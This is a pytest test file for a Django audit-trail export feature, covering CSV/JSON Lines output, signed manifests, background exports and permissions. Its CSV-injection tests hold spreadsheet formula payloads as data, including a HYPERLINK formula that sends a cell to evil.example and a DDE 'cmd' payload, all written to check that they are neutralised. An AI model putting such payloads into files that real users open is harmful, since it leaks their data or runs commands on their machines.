"""Audit exports: CSV and JSON Lines as auditors download them, their manifests, their audit events,
large exports run as tasks, memory that does not grow with the trail, and who may export what.

audrey (auditor of Credit Risk) exports; alice is Credit Risk's admin; ben is Fraud's admin;
vera, dana and rita read models but not the audit trail.
"""

import csv
import gc
import hashlib
import html
import io
import json
import re
import tracemalloc
import uuid
from datetime import timedelta

import pytest
from django.db import connection, transaction
from django.test.utils import CaptureQueriesContext
from django.utils import timezone

from apps.audit import hashing, signing
from apps.audit.actions import Action
from apps.audit.actors import Actor
from apps.audit.models import SCOPE_FIELDS, AuditEvent, ChainHead
from apps.audit.services import Target, record
from apps.compliance.exports import services, writer
from apps.compliance.exports.filters import AuditFilters
from apps.compliance.models import AuditExport, ExportStatus
from tests.conftest import make_user

from .export_helpers import (
    TRICKY_LABEL,
    add_trail,
    body_of,
    events_sha256,
    run_verifier,
    save_public_key,
    split_jsonl,
    start_export,
)

ISO_UTC = re.compile(r"^\d{4}-\d{2}-\d{2}T\d{2}:\d{2}:\d{2}\.\d{6}Z$")


@pytest.fixture
def trail(cast, models):
    add_trail(cast, models)


def page_text(response) -> str:
    return html.unescape(response.content.decode())


def exported_events() -> list[AuditEvent]:
    return list(AuditEvent.objects.filter(action="audit.exported").order_by("sequence"))


def visible_sequences(user, **filters) -> list[int]:
    events = AuditEvent.objects.restrict(user).filter(**filters).order_by("sequence")
    return list(events.values_list("sequence", flat=True))


def parse_csv(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8"), newline="")))


# --- CSV -------------------------------------------------------------------------------------------------------


def test_csv_has_the_header_and_one_row_per_event_in_sequence_order(client, cast, trail):
    expected = visible_sequences(cast.audrey)
    response = start_export(client, cast.audrey, "csv")
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert re.fullmatch(r'attachment; filename="govportal-audit-\d{8}T\d{6}Z-[0-9a-f]{8}\.csv"',
                        response["Content-Disposition"])  # fmt: skip
    rows = parse_csv(body_of(response))
    assert rows[0] == list(writer.CSV_HEADER)
    assert [int(row[0]) for row in rows[1:]] == expected
    assert all(len(row) == len(writer.CSV_HEADER) for row in rows)


def test_csv_quotes_commas_quotes_and_newlines_and_keeps_utf8(client, cast, trail):
    data = body_of(start_export(client, cast.audrey, "csv"))
    event = AuditEvent.objects.get(target_label=TRICKY_LABEL)
    row = next(row for row in parse_csv(data)[1:] if int(row[0]) == event.sequence)
    column = dict(zip(writer.CSV_HEADER, row, strict=True))
    assert column["target"] == TRICKY_LABEL
    assert json.loads(column["changes"]) == event.changes
    assert column["changes"] == json.dumps(event.changes, sort_keys=True, ensure_ascii=False)
    # RFC 4180 on the bytes: CRLF record ends, fields with commas/quotes/newlines quoted, quotes doubled, raw UTF-8.
    assert data.startswith(b"sequence,timestamp,actor,") and data.count(b"\r\n") >= len(visible_sequences(cast.audrey))
    assert b'"Scorecard, ""retail"" \xe2\x80\x94\nZ\xc3\xbcrich line two"' in data
    assert "naïve ✓".encode() in data and b"\\u" not in data
    assert (column["actor"], column["actor_kind"], column["actor_id"]) == ("dana", "user", str(cast.dana.pk))
    assert (column["team_id"], column["model_id"], column["version_id"]) == (str(cast.team_a.pk), event.target_id, "")
    assert (column["hash"], column["prev_hash"]) == (event.hash, event.prev_hash)


def test_csv_times_are_iso8601_utc_with_a_z(client, cast, trail):
    rows = parse_csv(body_of(start_export(client, cast.audrey, "csv")))[1:]
    stored = dict(AuditEvent.objects.values_list("sequence", "timestamp"))
    for row in rows:
        assert ISO_UTC.match(row[1]), row[1]
        assert row[1] == hashing.format_timestamp(stored[int(row[0])])


def test_csv_manifest_is_a_signed_sidecar_stating_the_sha256_of_the_csv_bytes(client, cast, trail):
    response = start_export(client, cast.audrey, "csv", action="model.")
    data = body_of(response)
    export_id = response["X-Export-Id"]
    assert response["Link"] == f'</audit/exports/{export_id}/manifest>; rel="describedby"'
    sidecar = client.get(f"/audit/exports/{export_id}/manifest")
    assert sidecar.status_code == 200
    manifest, signature = sidecar.json()["manifest"], sidecar.json()["signature"]
    assert manifest["file_sha256"] == hashlib.sha256(data).hexdigest()
    assert signing.verify(manifest, signature)
    assert manifest["key_id"] == signing.key_id()
    expected = visible_sequences(cast.audrey, action__startswith="model.")
    assert (manifest["format"], manifest["filters"], manifest["event_count"]) == (
        "csv",
        {"action": "model."},
        len(expected),
    )
    assert (manifest["first_sequence"], manifest["last_sequence"], manifest["generated_by"]) == (
        expected[0], expected[-1], "audrey",
    )  # fmt: skip
    assert not signing.verify(manifest | {"event_count": len(expected) - 1}, signature)


def test_a_streamed_export_has_no_file_to_download(client, cast, trail):
    response = start_export(client, cast.audrey, "csv")
    body_of(response)
    assert client.get(f"/audit/exports/{response['X-Export-Id']}/download").status_code == 404


def verify_command(export) -> str:
    manifest = "" if export.format == "jsonl" else f" --manifest {export.manifest_file_name}"
    return f"python verify_audit.py {export.file_name}{manifest} --public-key govportal-audit.pub"


@pytest.mark.parametrize("fmt", ["csv", "jsonl"])
def test_a_streamed_exports_page_shows_its_verify_command_its_manifest_and_how_to_download_it_again(
    client, cast, trail, fmt
):
    response = start_export(client, cast.audrey, fmt, action="model.")
    first = body_of(response)
    export = AuditExport.objects.get(pk=response["X-Export-Id"])
    text = page_text(client.get(f"/audit/exports/{export.pk}/"))

    assert f'<code id="verify-command">{verify_command(export)}</code>' in text
    assert f'href="/audit/exports/{export.pk}/manifest" download="{export.manifest_file_name}"' in text
    assert f'Streamed to your browser as <span class="mono">{export.file_name}</span>' in text
    assert "Available until" not in text and f"/audit/exports/{export.pk}/download" not in text
    again = re.search(r'<form [^>]*id="export-again">(.*?)</form>', text, re.S).group(1)
    fields = dict(re.findall(r'<input type="hidden" name="(\w+)" value="([^"]*)">', again))
    assert fields.pop("csrfmiddlewaretoken")
    assert fields == {"format": fmt, "action": "model."}
    again = client.post("/audit/exports/start/", fields)
    assert again.status_code == 200 and again["X-Export-Id"] != str(export.pk)
    if fmt == "csv":
        assert body_of(again) == first
    else:  # the same events, under a manifest line naming the new export
        assert split_jsonl(body_of(again))[0] == split_jsonl(first)[0]


def test_an_exports_filters_read_by_name_on_its_page_and_in_the_list(client, cast, models, trail):
    """The filters an export was made with show the team, model, version and environment by name, not by the ids
    the export keeps; a model the reader may no longer see stays an id."""
    from apps.inventory.models import Environment

    version = models.scorecard.versions.get(version="1.0.0")
    production = Environment.objects.create(name="Production", slug="production", order=30)
    filters = {"team": cast.team_a.pk, "model": models.scorecard.slug, "version": "1.0.0",
               "environment": production.pk, "date_from": "2026-01-01"}  # fmt: skip
    response = start_export(client, cast.audrey, "csv", **filters)
    assert response.status_code == 200, response.content
    export = AuditExport.objects.get(pk=response["X-Export-Id"])
    assert export.filters["model"] == models.scorecard.pk and export.filters["version"] == version.pk

    detail = page_text(client.get(f"/audit/exports/{export.pk}/"))
    for shown in (f"team: {cast.team_a.name}", "model: Retail Scorecard", "version: Retail Scorecard 1.0.0",
                  f"environment: {production.name}", "from: 2026-01-01"):  # fmt: skip
        assert shown in detail, shown
    assert f"model = {models.scorecard.pk}" not in detail
    listed = page_text(client.get("/audit/exports/"))
    assert "model: Retail Scorecard; version: Retail Scorecard 1.0.0" in listed

    foreign = AuditExport.objects.create(
        id=uuid.uuid4(),
        requested_by=cast.audrey,
        format=export.format,
        filters={"model": models.detector.pk},
        status=export.status,
    )
    assert f"model: {models.detector.pk}" in page_text(client.get(f"/audit/exports/{foreign.pk}/"))


def test_a_pdf_exports_page_shows_its_download_its_manifest_and_its_verify_command(
    client, cast, trail, django_capture_on_commit_callbacks
):
    client.force_login(cast.audrey)
    with django_capture_on_commit_callbacks(execute=True):
        client.post("/audit/exports/start/", {"format": "pdf"})
    export = AuditExport.objects.get()
    text = page_text(client.get(f"/audit/exports/{export.pk}/"))

    assert f'<code id="verify-command">{verify_command(export)}</code>' in text
    assert f"Download {export.file_name}</a>" in text and "Available until" in text
    assert f"Download the signed manifest, {export.manifest_file_name}</a>" in text
    assert "export the same filters as JSON Lines" in text and 'id="export-again"' not in text


# Spreadsheets run a cell that starts with one of these as a formula (tab and CR as well, OWASP CSV injection).
FORMULAS = ["=HYPERLINK(\"https://evil.example/?\"&A1,\"Open\")", "+1+2", "-2+3", "@SUM(A1:A9)", "\tcmd", "\rcmd",
            "'=already quoted"]  # fmt: skip


@pytest.mark.parametrize("label", FORMULAS, ids=["equals", "plus", "minus", "at", "tab", "cr", "quote"])
def test_csv_neutralises_cells_a_spreadsheet_would_run_as_formulas(client, cast, models, label):
    with transaction.atomic():
        record(action=Action.MODEL_UPDATED, actor=Actor.system(label), target=Target("x.y", label, label),
               changes={"name": [label, "safe"]})  # fmt: skip
    event = AuditEvent.objects.get(target_label=label)
    row = next(row for row in parse_csv(body_of(start_export(client, cast.admin, "csv")))[1:]
               if int(row[0]) == event.sequence)  # fmt: skip
    column = dict(zip(writer.CSV_HEADER, row, strict=True))
    assert (column["actor"], column["target_id"], column["target"]) == (f"'{label}",) * 3
    assert column["changes"].startswith("{")  # JSON text starts safely; the label inside it is not at a cell start
    # Dropping one leading quote gives the stored value back, so nothing is lost for a reader who re-derives it.
    assert column["target"][1:] == event.target_label


def test_jsonl_keeps_formula_like_values_byte_for_byte(client, cast, models):
    with transaction.atomic():
        for label in FORMULAS:
            record(action=Action.MODEL_UPDATED, actor=Actor.system(label), target=Target("x.y", label, label))
    lines, _ = split_jsonl(body_of(start_export(client, cast.admin, "jsonl")))
    exported = [json.loads(line) for line in lines if json.loads(line)["target_type"] == "x.y"]
    assert [event["target_label"] for event in exported] == FORMULAS
    assert [event["actor_label"] for event in exported] == FORMULAS
    events = AuditEvent.objects.filter(target_type="x.y").order_by("sequence")
    assert [line for line in lines if b'"target_type":"x.y"' in line] == [
        json.dumps(writer.jsonl_event(row), sort_keys=True, separators=(",", ":"), ensure_ascii=False).encode()
        for row in writer.rows(events)
    ]
    assert all(event["hash"] == hashing.compute_hash({key: event[key] for key in hashing.HASHED_FIELDS})
               for event in exported)  # fmt: skip


# --- byte for byte what the straightforward encoding gives -----------------------------------------------------


def reference_csv(rows) -> bytes:
    """The CSV of the dict rows, as the writer first wrote it: one dict and one writerow() per event (with every text
    cell that starts like a formula prefixed with a quote)."""
    buffer = io.StringIO()
    out = csv.writer(buffer, lineterminator="\r\n")
    out.writerow(writer.CSV_HEADER)
    safe = writer.neutralise
    for row in rows:
        context = row["context"] or {}
        out.writerow([
            row["sequence"], hashing.format_timestamp(row["timestamp"]), safe(row["actor_label"]),
            safe(row["actor_kind"]), "" if row["actor_id"] is None else row["actor_id"], safe(row["action"]),
            safe(row["target_type"]), safe(row["target_id"]), safe(row["target_label"]),
            json.dumps(row["changes"], sort_keys=True, ensure_ascii=False), safe(context.get("request_id", "")),
            safe(context.get("client_ip", "")), safe(context.get("source", "")),
            *("" if row[name] is None else row[name] for name in SCOPE_FIELDS), row["hash"], row["prev_hash"],
        ])  # fmt: skip
    return buffer.getvalue().encode("utf-8")


def reference_jsonl(rows) -> bytes:
    lines = [json.dumps(writer.jsonl_event(row), sort_keys=True, separators=(",", ":"), ensure_ascii=False)
             for row in rows]  # fmt: skip
    return "".join(line + "\n" for line in lines).encode("utf-8")


def test_exports_are_byte_for_byte_the_reference_encoding(cast, trail, monkeypatch):
    with transaction.atomic():  # formula-like text: neutralised in the CSV, verbatim in JSON Lines
        record(action=Action.MODEL_UPDATED, actor=Actor.system("=cmd|' /C calc'!A0"),
               target=Target("x.y", "-1", "@SUM(1+1)"), changes={"formula": ["=1+1", "+1"]})  # fmt: skip
    odd = {"tiny": 1e-05, "huge": 1e16, "third": 1 / 3, "big": 2**62, "flags": [True, False, None], "ctrl": "\x01\t",
           "slash": "a/b\\c", "emoji": "🙂", "nested": {"b": {"z": 1, "a": [1.5, "é"]}, "a": ""}}  # fmt: skip
    with transaction.atomic():
        record(action=Action.MODEL_UPDATED, actor=Actor.of(cast.dana), target=Target("x.y", "1", "odd, \"values\""),
               changes=odd)  # fmt: skip
    insert_chained_events(23)
    monkeypatch.setattr(writer, "CHUNK", 7)  # several chunks, and a last one that is not full
    events = AuditEvent.objects.restrict(cast.admin)
    rows = list(writer.rows(events))
    assert b"".join(writer.csv_chunks(events, writer.Tally())) == reference_csv(rows)
    assert b"".join(writer.jsonl_chunks(events, writer.Tally())) == reference_jsonl(rows)


def test_the_fast_timestamp_is_format_timestamp():
    from datetime import UTC, datetime, timezone

    for value in (
        datetime(2026, 3, 1, 12, 0, 0, 0, tzinfo=UTC),
        datetime(2026, 3, 1, 12, 0, 0, 7, tzinfo=UTC),
        datetime(2026, 3, 1, 23, 59, 59, 999999, tzinfo=timezone(timedelta(hours=2))),
        datetime(999, 1, 1, tzinfo=UTC),
    ):
        assert writer._timestamp(value) == hashing.format_timestamp(value)


# --- every export is an audit event ---------------------------------------------------------------------------


@pytest.mark.parametrize("fmt", ["csv", "jsonl"])
def test_every_export_is_recorded_as_audit_exported_with_the_sha256_of_the_bytes(client, cast, trail, fmt):
    before = AuditEvent.objects.order_by("sequence").last().sequence
    response = start_export(client, cast.audrey, fmt, action="model.", date_from=timezone.now().date())
    data = body_of(response)
    written = list(AuditEvent.objects.filter(sequence__gt=before).order_by("sequence"))
    assert [event.action for event in written] == ["audit.exported"]
    event = written[0]
    export = AuditExport.objects.get()
    digest = hashlib.sha256(data).hexdigest() if fmt == "csv" else events_sha256(data)
    rows = len(visible_sequences(cast.audrey, action__startswith="model."))
    filters = {"action": "model.", "date_from": timezone.now().date().isoformat()}
    assert (event.actor_id, event.actor_label, event.actor_kind) == (cast.audrey.pk, "audrey", "user")
    assert (event.target_type, event.target_id) == ("audit.auditexport", str(export.pk))
    assert event.changes == {
        "format": [None, fmt], "filters": [None, filters], "row_count": [None, rows], "file_sha256": [None, digest],
        "delivery": [None, "streamed"], "complete": [None, True],
    }  # fmt: skip
    assert (export.status, export.row_count, export.file_sha256, export.requested_by) == (
        ExportStatus.DONE, rows, digest, cast.audrey,
    )  # fmt: skip
    if fmt == "jsonl":
        assert split_jsonl(data)[1]["manifest"]["file_sha256"] == digest


def test_an_abandoned_stream_is_recorded_as_incomplete(cast, trail, monkeypatch):
    monkeypatch.setattr(writer, "CHUNK", 2)
    export = services.export_start(actor=Actor.of(cast.audrey), format="csv", filters=AuditFilters())
    stream = services.export_stream(export)
    first = next(stream)
    stream.close()  # the browser went away
    export.refresh_from_db()
    assert export.status == ExportStatus.ABORTED
    assert export.file_sha256 == hashlib.sha256(first).hexdigest()
    assert exported_events()[-1].changes["complete"] == [None, False]
    assert exported_events()[-1].changes["row_count"] == [None, 2]


# --- large exports run as tasks -------------------------------------------------------------------------------


def test_a_large_export_runs_as_a_task_then_downloads_and_verifies(
    client, cast, trail, settings, tmp_path, django_capture_on_commit_callbacks
):
    settings.AUDIT_EXPORT_STREAM_LIMIT = 3
    with django_capture_on_commit_callbacks(execute=True) as callbacks:
        response = start_export(client, cast.audrey, "jsonl")
    export = AuditExport.objects.get()
    assert len(callbacks) == 1
    assert response.status_code == 302 and response["Location"] == f"/audit/exports/{export.pk}/"
    export.refresh_from_db()
    assert (export.status, export.streamed, export.row_count) == (ExportStatus.DONE, False, export.total)

    page = client.get(f"/audit/exports/{export.pk}/")
    assert page.status_code == 200
    assert "<strong>Ready</strong>" in page_text(page) and f"/audit/exports/{export.pk}/download" in page_text(page)
    fragment = client.get(f"/audit/exports/{export.pk}/", headers={"HX-Request": "true"})
    assert fragment.status_code == 200
    assert "<strong>Ready</strong>" in page_text(fragment)
    assert "<html" not in page_text(fragment) and "hx-trigger" not in page_text(fragment)  # done: stops polling

    download = client.get(f"/audit/exports/{export.pk}/download")
    assert download.status_code == 200
    assert download["Content-Disposition"] == f'attachment; filename="{export.file_name}"'
    data = body_of(download)
    path = tmp_path / export.file_name
    path.write_bytes(data)
    result = run_verifier(path, save_public_key(client, tmp_path))
    assert result.returncode == 0, result.stdout
    # audrey reads Credit Risk and portal-wide events: Fraud's are gaps, noted as not included.
    assert result.stdout.splitlines()[-1].startswith(f"OK: {export.total} events verified")
    assert "note: events 4..5 not included (filtered)" in result.stdout
    assert exported_events()[-1].changes["file_sha256"] == [None, events_sha256(data)]
    assert f'Events SHA-256</dt><dd class="col-sm-9 digest">{events_sha256(data)}' in page_text(page)
    assert exported_events()[-1].changes["delivery"] == [None, "file"]


def test_a_large_csv_export_is_written_to_a_file_with_its_manifest(
    client, cast, trail, settings, django_capture_on_commit_callbacks
):
    settings.AUDIT_EXPORT_STREAM_LIMIT = 3
    with django_capture_on_commit_callbacks(execute=True):
        start_export(client, cast.audrey, "csv")
    export = AuditExport.objects.get()
    data = body_of(client.get(f"/audit/exports/{export.pk}/download"))
    assert len(parse_csv(data)) == export.total + 1
    manifest = client.get(f"/audit/exports/{export.pk}/manifest").json()
    assert manifest["manifest"]["file_sha256"] == hashlib.sha256(data).hexdigest() == export.file_sha256
    page = page_text(client.get(f"/audit/exports/{export.pk}/"))
    assert f'File SHA-256</dt><dd class="col-sm-9 digest">{export.file_sha256}' in page
    assert signing.verify(manifest["manifest"], manifest["signature"])


def test_a_running_export_page_shows_progress_and_polls(
    client, cast, trail, settings, django_capture_on_commit_callbacks
):
    settings.AUDIT_EXPORT_STREAM_LIMIT = 3
    with django_capture_on_commit_callbacks(execute=False):  # the worker has not picked it up yet
        response = start_export(client, cast.audrey, "csv")
    export = AuditExport.objects.get()
    page = client.get(response["Location"])
    text = page_text(page)
    assert "<strong>Running</strong>" in text and 'hx-trigger="every 2s"' in text and 'role="progressbar"' in text
    assert f"The CSV export of {export.total} events is being prepared." in text
    assert client.get(f"/audit/exports/{export.pk}/download").status_code == 404
    assert client.get(f"/audit/exports/{export.pk}/manifest").status_code == 404
    assert exported_events() == []  # nothing is audited until the export finishes


def test_expired_exports_lose_their_file_and_download_gives_404(
    client, cast, trail, settings, django_capture_on_commit_callbacks
):
    settings.AUDIT_EXPORT_STREAM_LIMIT = 3
    with django_capture_on_commit_callbacks(execute=True):
        start_export(client, cast.audrey, "jsonl")
    export = AuditExport.objects.get()
    path = services.file_path(export)
    assert path.exists() and export.expires_at == export.finished_at + timedelta(hours=settings.AUDIT_EXPORT_TTL_HOURS)
    assert services.exports_expire(now=export.expires_at - timedelta(seconds=1)) == 0
    assert path.exists()
    assert services.exports_expire(now=export.expires_at + timedelta(seconds=1)) == 1
    assert not path.exists()
    export.refresh_from_db()
    assert export.status == ExportStatus.EXPIRED
    assert client.get(f"/audit/exports/{export.pk}/download").status_code == 404
    assert "<strong>Expired</strong>" in page_text(client.get(f"/audit/exports/{export.pk}/"))
    assert len(exported_events()) == 1  # the record of the export stays


# --- memory and queries do not grow with the trail ------------------------------------------------------------


COLUMNS = ("sequence", "timestamp", "actor_id", "actor_label", "actor_kind", "action", "target_type", "target_id",
           "target_label", *SCOPE_FIELDS, "changes", "context", "prev_hash", "hash")  # fmt: skip


def insert_chained_events(count: int, batch: int = 20_000) -> None:
    """Append `count` valid events fast: hashes from apps.audit.hashing, rows by COPY (PostgreSQL) or
    executemany (SQLite) in batches, then the chain head, all in one transaction."""
    with transaction.atomic():
        head, _ = ChainHead.objects.select_for_update().get_or_create(pk=1)
        newest = AuditEvent.objects.filter(sequence=head.sequence).values_list("timestamp", flat=True).first()
        moment = newest or timezone.now() - timedelta(days=1)
        prev_hash, rows = head.hash, []
        for sequence in range(head.sequence + 1, head.sequence + count + 1):
            moment += timedelta(microseconds=137)
            row = {
                "sequence": sequence, "timestamp": moment, "actor_id": None, "actor_label": "generator",
                "actor_kind": "system", "action": "model.updated", "target_type": "inventory.registeredmodel",
                "target_id": str(sequence % 97), "target_label": f'Model {sequence % 97}, "bulk" — Zürich',
                "team_id": 1, "model_id": sequence % 97 + 1, "version_id": None, "environment_id": None,
                "request_id": None, "changes": {"n": [sequence - 1, sequence], "note": ["a,b", "line\nbreak ✓"]},
                "context": {"request_id": f"{sequence:032x}", "source": "task"}, "prev_hash": prev_hash,
            }  # fmt: skip
            payload = {key: row[key] for key in hashing.HASHED_FIELDS if key not in ("scope", "timestamp")}
            payload["timestamp"] = hashing.format_timestamp(moment)
            payload["scope"] = {name.removesuffix("_id"): row[name] for name in SCOPE_FIELDS if row[name]}
            row["hash"] = prev_hash = hashing.compute_hash(payload)
            rows.append(row)
            if len(rows) == batch:
                insert_rows(rows)
                rows.clear()
        insert_rows(rows)
        ChainHead.objects.filter(pk=1).update(sequence=head.sequence + count, hash=prev_hash)


def insert_rows(rows: list[dict]) -> None:
    if not rows:
        return
    with connection.cursor() as cursor:
        if connection.vendor == "postgresql":
            buffer = io.StringIO()
            out = csv.writer(buffer)
            for row in rows:
                out.writerow(
                    [json.dumps(row[name]) if name in ("changes", "context") else row[name] for name in COLUMNS]
                )
            buffer.seek(0)
            cursor.cursor.copy_expert(
                f"COPY audit_auditevent ({', '.join(COLUMNS)}) FROM STDIN WITH (FORMAT csv)", buffer
            )
        else:
            values = [
                [json.dumps(row[name]) if name in ("changes", "context") else row[name] for name in COLUMNS]
                for row in rows
            ]
            for value in values:
                value[1] = connection.ops.adapt_datetimefield_value(value[1])
            cursor.executemany(
                f"INSERT INTO audit_auditevent ({', '.join(COLUMNS)}) VALUES ({', '.join(['%s'] * len(COLUMNS))})",
                values,
            )


def measure_export(user, fmt: str) -> tuple[int, int, int]:
    """(events exported, peak Python allocation in bytes, queries captured) while consuming export_stream."""
    export = services.export_start(actor=Actor.of(user), format=fmt, filters=AuditFilters())
    gc.collect()
    tracemalloc.start()
    try:
        with CaptureQueriesContext(connection) as queries:
            for _ in services.export_stream(export):
                pass
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    export.refresh_from_db()
    assert export.status == ExportStatus.DONE
    return export.row_count, peak, len(queries)


def assert_flat_from(small: int, large: int, admin) -> None:
    for fmt in ("csv", "jsonl"):  # warm up: first-use caches are not what is measured
        measure_export(admin, fmt)
    insert_chained_events(small - AuditEvent.objects.count())
    small_runs = {fmt: measure_export(admin, fmt) for fmt in ("csv", "jsonl")}
    insert_chained_events(large - AuditEvent.objects.count())
    large_runs = {fmt: measure_export(admin, fmt) for fmt in ("csv", "jsonl")}
    for fmt in ("csv", "jsonl"):
        small_rows, small_peak, small_queries = small_runs[fmt]
        large_rows, large_peak, large_queries = large_runs[fmt]
        assert small_rows >= small and large_rows >= large
        assert large_peak <= 1.5 * small_peak, f"{fmt}: {large_peak:,} B at {large_rows:,} events, {small_peak:,} B"
        # One query and one cursor read in CHUNK-row fetches (FETCHes are not captured): no query per chunk or row.
        assert large_queries == small_queries <= 15, (fmt, small_queries, large_queries)


def test_streaming_memory_and_queries_stay_flat_as_the_trail_grows_tenfold(cast):
    """The small-size form of the property; bench/audit_export.py measures peak RSS at 1M events."""
    assert_flat_from(4_000, 40_000, cast.admin)


# --- who may export what --------------------------------------------------------------------------------------


@pytest.mark.parametrize("name", ["vera", "dana", "rita"])
def test_only_auditors_and_admins_export(client, cast, trail, name):
    response = start_export(client, getattr(cast, name), "csv")
    assert response.status_code == 403
    assert not AuditExport.objects.exists() and exported_events() == []


@pytest.mark.parametrize("name", ["audrey", "alice", "ben", "admin"])
def test_auditors_team_admins_and_superusers_export(client, cast, trail, name):
    expected = visible_sequences(getattr(cast, name))
    response = start_export(client, getattr(cast, name), "jsonl")
    assert response.status_code == 200
    events, _ = split_jsonl(body_of(response))
    assert [json.loads(line)["sequence"] for line in events] == expected


def test_a_superuser_may_export_before_any_team_exists(client, db):
    root = make_user("root", is_superuser=True, is_staff=True)
    with transaction.atomic():
        record(action=Action.ENVIRONMENT_CREATED, actor=Actor.system("setup"), target=Target("x.env", 1, "Dev"))
    response = start_export(client, root, "csv")
    assert response.status_code == 200
    assert len(parse_csv(body_of(response))) == 2
    assert exported_events()[0].actor_label == "root"


def test_exporting_another_teams_trail_is_refused_and_not_recorded(client, cast, trail):
    response = start_export(client, cast.audrey, "csv", team=cast.team_b.pk)
    assert response.status_code == 403
    assert "You may not read or export that team's audit trail." in page_text(response)
    assert not AuditExport.objects.exists() and exported_events() == []


def test_an_auditors_export_holds_only_their_teams_and_portal_wide_events(client, cast, trail):
    data = body_of(start_export(client, cast.audrey, "jsonl"))
    teams = {json.loads(line)["scope"].get("team") for line in split_jsonl(data)[0]}
    assert teams == {cast.team_a.pk, None}
    assert AuditEvent.objects.filter(team_id=cast.team_b.pk).exists()
    everything = body_of(start_export(client, cast.admin, "jsonl"))
    assert {json.loads(line)["scope"].get("team") for line in split_jsonl(everything)[0]} == {
        cast.team_a.pk, cast.team_b.pk, None,
    }  # fmt: skip


def test_someone_elses_export_is_not_found(client, cast, trail):
    response = start_export(client, cast.audrey, "csv")
    body_of(response)
    export_id = response["X-Export-Id"]
    client.force_login(cast.alice)
    for suffix in ("", "download", "manifest"):
        assert client.get(f"/audit/exports/{export_id}/{suffix}").status_code == 404
    assert export_id not in page_text(client.get("/audit/exports/"))
    client.force_login(cast.admin)
    assert client.get(f"/audit/exports/{export_id}/").status_code == 200


def test_the_public_key_is_public_pem(client, cast):
    response = client.get("/audit/public-key")
    assert response.status_code == 200
    assert response["Content-Type"] == "application/x-pem-file"
    assert response.content.startswith(b"-----BEGIN PUBLIC KEY-----\n")
    assert response.content.decode() == signing.public_key_pem()
    assert response["X-Key-Id"] == signing.key_id()


def test_the_verifier_is_public_and_is_the_repositorys_client(client, cast):
    from tests.compliance.export_helpers import VERIFIER

    response = client.get("/audit/verify_audit.py")
    assert response.status_code == 200
    assert response["Content-Disposition"] == 'attachment; filename="verify_audit.py"'
    assert response.content == VERIFIER.read_bytes()
    assert client.post("/audit/verify_audit.py").status_code == 405


def test_anonymous_visitors_cannot_export(client, cast, trail):
    response = client.post("/audit/exports/start/", {"format": "csv"})
    assert response.status_code == 302 and response["Location"].startswith("/accounts/login/")
    assert not AuditExport.objects.exists()


# --- bad input ------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("fmt", "params", "message"),
    [
        ("csv", {"date_from": "2026-13-01"}, "'2026-13-01' is not a date: use YYYY-MM-DD."),
        ("csv", {"foo": "1"}, "Unknown filter: foo. Use date_from, date_to, team,"),
        ("jsonl", {"date_from": "2026-03-02", "date_to": "2026-03-01"}, "The end date is before the start date."),
        ("csv", {"request": "abc"}, "request must be a positive number (an id), not 'abc'."),
        ("csv", {"model": "abc"}, "No model 'abc' that you may see: type its name or slug, or choose from the list."),
        ("csv", {"version": "1.0.0"}, "Choose the model first: a version is looked up by its name under its model."),
        ("xml", {}, "Choose CSV, JSON Lines or PDF."),
        ("", {"action": "model."}, "Choose CSV, JSON Lines or PDF."),
    ],
)  # fmt: skip
def test_bad_export_input_is_refused_with_a_message_and_nothing_written(client, cast, trail, fmt, params, message):
    events_before = AuditEvent.objects.count()
    response = start_export(client, cast.audrey, fmt, **params)
    assert response.status_code == 400
    assert message in page_text(response)
    assert not AuditExport.objects.exists()
    assert AuditEvent.objects.count() == events_before and exported_events() == []


def test_services_refuse_an_unknown_format_and_a_reader_without_export_rights(cast):
    with pytest.raises(ValueError, match="unknown export format 'xml'"):
        services.export_start(actor=Actor.of(cast.audrey), format="xml", filters=AuditFilters())
    from django.core.exceptions import PermissionDenied

    with pytest.raises(PermissionDenied):
        services.export_start(actor=Actor.of(cast.vera), format="csv", filters=AuditFilters())
    assert not AuditExport.objects.exists()
